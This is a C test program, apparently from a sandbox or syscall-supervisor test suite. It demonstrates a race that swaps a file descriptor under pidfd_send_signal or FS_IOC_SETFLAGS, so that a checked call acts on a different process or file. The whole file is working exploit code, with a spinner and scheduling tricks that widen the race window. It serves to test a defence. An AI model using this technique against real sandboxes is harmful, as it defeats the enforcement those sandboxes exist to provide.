/* SPDX-License-Identifier: MIT */
/*
 * attack-orphan pidfd TARGET SIG | setflags FILE OTHER: a descriptor
 * swapped under a call that takes it by number (pidfd_send_signal, ioctl
 * FS_IOC_SETFLAGS) by a task that the supervisor cannot know yet, step by
 * step as the test (escape.sh) drives it on stdin while it stops and
 * continues the supervisor:
 *
 *   set-up, then prints "ready PID B NR" (NR: the call's number): fd 100
 *     is a pidfd of a child of ours (K, blocking SIG), or FILE opened for
 *     reading; another fd a pidfd of TARGET, or OTHER; B a process that
 *     shares our fd table (clone with CLONE_FILES), on CPU 1;
 *   "clone": B clones C with CLONE_FILES.  With the supervisor stopped,
 *     B waits at its clone event, which the test's SIGKILL of B takes
 *     away: C is known to the supervisor only at its own first stop.
 *     Once it runs, C dup2()s the other fd over fd 100;
 *   "send": a spinner on our CPU (0) spins from 20 ms on for 200 ms, with
 *     SCHED_FIFO (root), else with us at SCHED_IDLE, so that C, resumed
 *     after the supervisor's answer to us, would run before we take fd
 *     100; we send SIG through fd 100 (pidfd_send_signal), or set the
 *     noatime flag of its file (ioctl FS_IOC_SETFLAGS, as chattr +A).
 *
 * Exits 0 if the call went through (on whatever fd 100 named), else with
 * its errno.  The hole: TARGET got SIG, or OTHER has the flag.
 */
#include "victim.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <stdbool.h>
#include <sys/ioctl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#define SWAPPED_FD 100

static int target_fd, go_pipe[2], b_ready[2];
static char stack_b[64 * 1024] __attribute__((aligned(16)));
static char stack_c[64 * 1024] __attribute__((aligned(16)));

static void pin(int cpu)
{
	cpu_set_t m;

	CPU_ZERO(&m);
	CPU_SET(cpu, &m);
	/* One CPU only: the attack is then just less likely to win. */
	(void)sched_setaffinity(0, sizeof(m), &m);
}

static int run_c(void *arg)
{
	(void)arg;
	dup2(target_fd, SWAPPED_FD);
	_exit(0);
}

static int run_b(void *arg)
{
	char c;

	(void)arg;
	/* Before the test stops the supervisor: sched_setaffinity is
	 * always notified. */
	pin(1);
	if (write(b_ready[1], "b", 1) != 1 || read(go_pipe[0], &c, 1) != 1)
		_exit(1);
	if (clone(run_c, stack_c + sizeof(stack_c), CLONE_FILES | SIGCHLD, NULL) < 0)
		_exit(2);
	for (;;)
		pause();
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The spinner: waits for a byte on fd, then hogs CPU 0 for a while. */
static pid_t start_spinner(int fd, bool *fifo)
{
	struct sched_param sp = { .sched_priority = 1 };
	int ready[2];
	pid_t pid;
	char c;

	if (pipe(ready) < 0)
		victim_setup_fail("pipe");
	pid = fork();
	if (pid < 0)
		victim_setup_fail("fork");
	if (pid == 0) {
		pin(0);
		c = sched_setscheduler(0, SCHED_FIFO, &sp) == 0 ? 'f' : 'n';
		if (write(ready[1], &c, 1) != 1 || read(fd, &c, 1) != 1)
			_exit(1);
		usleep(20000);
		for (double end = now() + 0.2; now() < end;)
			;
		_exit(0);
	}
	if (read(ready[0], &c, 1) != 1)
		victim_setup_fail("spinner");
	close(ready[0]);
	close(ready[1]);
	*fifo = c == 'f';
	return pid;
}

static void expect(const char *word)
{
	char line[64];

	if (!fgets(line, sizeof(line), stdin) || strncmp(line, word, strlen(word)))
		victim_setup_fail("expected \"%s\" on stdin", word);
}

int main(int argc, char **argv)
{
	int spin[2], fd, sig = 0, flags = 0, err = 0;
	pid_t k = -1, b, spinner;
	bool pidfd, fifo;
	sigset_t set;
	char c;

	victim_name = "attack-orphan";
	if (argc != 4 || (strcmp(argv[1], "pidfd") && strcmp(argv[1], "setflags")))
		victim_usage("pidfd TARGET SIG | setflags FILE OTHER");
	pidfd = !strcmp(argv[1], "pidfd");
	if (pipe(spin) < 0 || pipe(go_pipe) < 0 || pipe(b_ready) < 0)
		victim_setup_fail("pipe");
	spinner = start_spinner(spin[0], &fifo);
	pin(0);
	if (pidfd) {
		sig = (int)victim_long(argv[3], "signal");
		k = fork();
		if (k < 0)
			victim_setup_fail("fork");
		if (k == 0) {
			sigemptyset(&set);
			sigaddset(&set, sig);
			sigprocmask(SIG_BLOCK, &set, NULL);
			for (;;)
				pause();
		}
		fd = (int)syscall(SYS_pidfd_open, k, 0);
		target_fd = (int)syscall(SYS_pidfd_open,
					 (pid_t)victim_long(argv[2], "target"), 0);
	} else {
		fd = open(argv[2], O_RDONLY | O_CLOEXEC);
		target_fd = open(argv[3], O_RDONLY | O_CLOEXEC);
	}
	if (fd < 0 || dup2(fd, SWAPPED_FD) < 0)
		victim_setup_fail("fd %d", SWAPPED_FD);
	if (target_fd < 0)
		victim_setup_fail("the other fd");
	/* Its flags as they are (ext4's extents flag cannot be cleared). */
	if (!pidfd && ioctl(SWAPPED_FD, FS_IOC_GETFLAGS, &flags) < 0)
		victim_setup_fail("FS_IOC_GETFLAGS");
	flags |= FS_NOATIME_FL;
	b = clone(run_b, stack_b + sizeof(stack_b), CLONE_FILES | SIGCHLD, NULL);
	if (b < 0 || read(b_ready[0], &c, 1) != 1)
		victim_setup_fail("clone");
	printf("ready %d %d %d\n", (int)getpid(), (int)b,
	       pidfd ? SYS_pidfd_send_signal : SYS_ioctl);
	fflush(stdout);

	expect("clone");
	if (write(go_pipe[1], "c", 1) != 1)
		victim_setup_fail("write");
	expect("send");
	if (!fifo) {
		struct sched_param sp = { 0 };

		if (sched_setscheduler(0, SCHED_IDLE, &sp) < 0)
			victim_setup_fail("SCHED_IDLE");
	}
	if (write(spin[1], "s", 1) != 1)
		victim_setup_fail("write");
	if (pidfd ? syscall(SYS_pidfd_send_signal, SWAPPED_FD, sig, NULL, 0) :
		    ioctl(SWAPPED_FD, FS_IOC_SETFLAGS, &flags))
		err = errno;
	printf("done: %s\n", err ? victim_errname(err) : "ok");
	fflush(stdout);
	if (k > 0) {
		kill(k, SIGKILL);
		waitpid(k, NULL, 0);
	}
	kill(spinner, SIGKILL);
	waitpid(spinner, NULL, 0);
	return victim_result(argv[1], err);
}
